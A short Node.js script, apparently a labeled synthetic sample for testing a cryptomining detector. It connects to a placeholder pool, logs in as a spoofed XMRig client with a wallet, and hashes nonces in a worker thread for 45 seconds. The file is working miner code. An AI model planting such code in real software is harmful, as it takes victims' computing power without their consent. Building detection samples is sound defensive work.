// class: mining; possible: low medium; style: XMRig's words, hashing in a worker thread
const { Worker } = require('worker_threads');
const HASHER = `
const { parentPort, workerData } = require('worker_threads');
const crypto = require('crypto');
const blob = Buffer.from(workerData, 'hex');
for (let n = 0; ; n++) {
  blob.writeUInt32LE(n >>> 0, 39);
  const h = crypto.createHash('blake2b512').update(blob).digest();
  if (h[0] === 0 && h[1] === 0) parentPort.postMessage({ nonce: n.toString(16), hash: h.toString('hex').slice(0, 64) });
}`;
const c = require('net').connect(3334, 'pool.coin.test');
let id = 1;
const send = (method, params) => c.write(JSON.stringify({ id: id++, jsonrpc: '2.0', method, params }) + '\n');
c.on('connect', () => send('login', { login: '49wallet', pass: 'rig7', agent: 'XMRig/6.22.0', algo: ['rx/0'] }));
c.once('data', d => {
  const r = JSON.parse(d.toString().split('\n')[0]).result;
  const w = new Worker(HASHER, { eval: true, workerData: r.job.blob });
  w.on('message', m => send('submit', { id: r.id, job_id: r.job.job_id, nonce: m.nonce, result: m.hash }));
  setInterval(() => send('keepalived', { id: r.id }), 15000);
});
c.on('data', () => {});
c.on('error', () => process.exit(1));
setTimeout(() => process.exit(0), 45000);
